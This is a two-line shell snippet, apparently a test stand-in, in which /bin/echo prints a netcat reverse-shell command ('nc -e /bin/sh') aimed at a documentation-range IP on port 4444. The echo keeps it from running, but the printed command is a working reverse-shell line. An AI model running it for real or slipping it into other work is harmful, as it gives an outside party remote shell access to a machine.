# echo stands in for the tool.
/bin/echo nc -e /bin/sh 203.0.113.5 4444
